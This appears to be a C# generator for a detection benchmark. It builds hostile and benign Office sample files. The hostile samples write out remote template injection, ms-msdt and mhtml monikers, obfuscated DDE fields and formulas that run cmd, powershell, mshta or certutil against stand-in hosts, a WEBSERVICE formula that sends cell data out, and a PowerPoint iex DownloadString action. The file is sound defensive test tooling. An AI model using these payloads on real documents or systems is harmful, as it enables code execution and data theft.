using Platform.Benchmarks.Detection.Samples.Office.Writers;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Office;

/// <summary>Documents without macros that fetch, start or send by what their parts refer to; and documents with templates, fields, links and web functions of honest use.</summary>
internal sealed class OpenXmlDocuments : ISampleKind
{
    public string Name => "open-xml";

    public IEnumerable<Sample> Make(Random random)
    {
        var address = Address(random);
        yield return Hostile(random, "docx with a template from elsewhere", "docx", Word(random).Relation("word/settings.xml", "attachedTemplate", address, external: true, $"rId{random.Next(1, 2_000)}"), "external-template");
        yield return Hostile(random, "docx with an object from elsewhere", "docx", Word(random).Relation("word/document.xml", random.Pick(["oleObject", "frame", "subDocument"]), Address(random), external: true), "external-template");
        yield return Hostile(random, "docx with a moniker", "docx", Word(random).Relation("word/document.xml", "oleObject", Moniker(random), external: true), "document-moniker");
        yield return Hostile(random, "docx that asks a share", "docx", Word(random).Relation("word/document.xml", random.Pick(["image", "attachedTemplate"]), $"file://{PublicAddress(random)}/{random.Word()}/{random.Word()}.png", external: true), "remote-share");
        yield return Hostile(random, "docx with a field that starts a program", "docx", Word(random, Dde(random)), "dynamic-data-exchange");
        yield return Hostile(random, "xlsx with a formula that starts a program", "xlsx", Excel(random, [("C3", random.Pick([$"={Mixed(random, "cmd")}|'/c {random.Pick(["powershell -w 1 iwr", "mshta", "curl"])} {Address(random)}'!A{random.Next(9)}", $"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c {random.Word()}.exe'!''"]))]), "dynamic-data-exchange");
        yield return Hostile(random, "xlsx that sends its cells", "xlsx", Excel(random, [("F9", $"=_xlfn.WEBSERVICE(\"https://{random.Word()}.example/?{random.Word()}=\"&_xlfn.{random.Pick(["TEXTJOIN(\"|\",TRUE,A1:E20)", "CONCAT(A1:E20)"])})")]), "remote-function-sends");
        yield return Hostile(random, "pptx that starts a program", "pptx", new OoxmlWriter().Slide($"<p:sp><a:{random.Pick(["hlinkMouseOver", "hlinkClick"])} r:id=\"rIdA\" action=\"ppaction://program\"/></p:sp>", random.Word(), random.Word()).Relation("ppt/slides/slide1.xml", "hyperlink", Uri.EscapeDataString($"powershell -NoP -c \"iex((New-Object Net.WebClient).DownloadString('{Address(random)}'))\""), external: true, "rIdA"), "presentation-program");
        foreach (var sample in Benign(random))
            yield return sample;
    }

    private static IEnumerable<Sample> Benign(Random random)
    {
        yield return Benign(random, "docx with the template of its company", "docx", Word(random).Relation("word/settings.xml", "attachedTemplate", random.Pick([@"file:///C:\Users\taro\AppData\Roaming\Microsoft\Templates\Normal.dotm", $@"\\fs0{random.Next(1, 9)}\templates\letter.dotx", $"https://{random.Word()}.sharepoint.com/sites/templates/letter.dotx", $@"file:///\\files.{random.Word()}.example\templates\letter.dotx"]), external: true));
        yield return Benign(random, "docx with links and a picture from the web", "docx", Word(random).Relation("word/document.xml", "hyperlink", $"https://www.{random.Word()}.example/about", external: true).Relation("word/document.xml", "image", $"https://www.{random.Word()}.example/logo.png", external: true));
        yield return Benign(random, "docx with fields", "docx", Word(random, OoxmlWriter.Field(" PAGE ") + OoxmlWriter.Field(" TOC \\o \"1-3\" \\h \\z \\u ") + OoxmlWriter.Field($" LINK Excel.Sheet.12 \"C:\\\\data\\\\{random.Word()}.xlsx\" \"Sheet1!R1C1:R{random.Next(2, 40)}C4\" \\a \\f 0 ")));
        yield return Benign(random, "docx with an embedded workbook", "docx", Word(random).Part("word/embeddings/Microsoft_Excel_Sheet1.xlsx", Excel(random, []).ToArray()).Relation("word/document.xml", "package", "embeddings/Microsoft_Excel_Sheet1.xlsx", external: false));
        yield return Benign(random, "xlsx with a web function", "xlsx", Excel(random, [("C3", $"=_xlfn.WEBSERVICE(\"https://api.{random.Word()}.example/rates?base=\"&A2)"), ("C4", "=_xlfn.FILTERXML(C3,\"//rate\")")]));
        yield return Benign(random, "xlsx with quotations", "xlsx", Excel(random, [("C3", $"=RSS|'{random.Next(1_000, 9_999)}.T'!現在値"), ("C4", "=SUM(A1:A9)"), ("C5", $"=HYPERLINK(\"https://www.{random.Word()}.example/\",\"site\")")]));
        yield return Benign(random, "xlsx with hidden sheets", "xlsx", Excel(random, []).Sheet("Lists", [("A1", random.Word()), ("A2", random.Word())], "hidden").Sheet("Settings", [("A1", random.Word())], "veryHidden").Name("Prices", "Lists!$A$1:$A$9"));
        yield return Benign(random, "pptx with links", "pptx", new OoxmlWriter().Slide("<p:sp><a:hlinkClick r:id=\"rIdA\"/></p:sp><p:sp><a:hlinkClick r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/></p:sp>", random.Word(), random.Word()).Relation("ppt/slides/slide1.xml", "hyperlink", $"https://www.{random.Word()}.example/", external: true, "rIdA"));
    }

    private static OoxmlWriter Word(Random random, string body = "") =>
        new OoxmlWriter().Document(string.Concat(Enumerable.Range(0, random.Next(1, 6)).Select(_ => OoxmlWriter.Paragraph(string.Join(' ', Enumerable.Range(0, random.Next(4, 20)).Select(_ => random.Word()))))) + body);

    private static OoxmlWriter Excel(Random random, IEnumerable<(string Address, string Content)> cells) =>
        new OoxmlWriter().Sheet(random.Pick(["Sheet1", "Plan", "集計"]), [("A1", random.Word()), ("B1", $"{random.Next(1, 9_999)}"), ("A2", random.Word()), .. cells]);

    private static Sample Hostile(Random random, string name, string extension, OoxmlWriter package, string reason) =>
        Sample.Hostile(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{extension}", package.ToArray())), [AttackType.Behaviour], reason);

    private static Sample Benign(Random random, string name, string extension, OoxmlWriter package) =>
        Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{extension}", package.ToArray())));

    private static string Address(Random random) =>
        random.Pick([$"https://{random.Word()}.example/{random.Word()}/{random.Word()}.dotm", $"http://{PublicAddress(random)}/{random.Word()}.doc", $"https://{random.Word()}.{random.Word()}.example/{Convert.ToHexStringLower(random.Bytes(8))}"]);

    private static string Moniker(Random random)
    {
        var page = $"https://{random.Word()}.example/{random.Word()}.html";
        return random.Pick([$"mhtml:{page}!x-usc:{page}", page + "!", $"{Mixed(random, "ms-msdt")}:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile={random.Word()}\"", $"script:{page}"]);
    }

    private static string Dde(Random random)
    {
        var command = $"{random.Pick(["DDEAUTO", "DDE"])} \"{random.Pick([@"c:\\windows\\system32\\cmd.exe", @"C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe", "cmd"])}\" \"/k {random.Pick(["start", "mshta", "certutil -urlcache -f"])} {Address(random)}\"";
        List<string> pieces = [];
        for (var at = 0; at < command.Length;)
        {
            var length = Math.Min(random.Next(1, 12), command.Length - at);
            pieces.Add(command.Substring(at, length));
            at += length;
        }

        return OoxmlWriter.Field(pieces);
    }

    private static string Mixed(Random random, string word) => string.Concat(word.Select(c => random.Chance(0.5) ? char.ToUpperInvariant(c) : c));

    private static string PublicAddress(Random random) => $"{random.Pick(["203.0.113", "198.51.100"])}.{random.Next(1, 255)}";
}
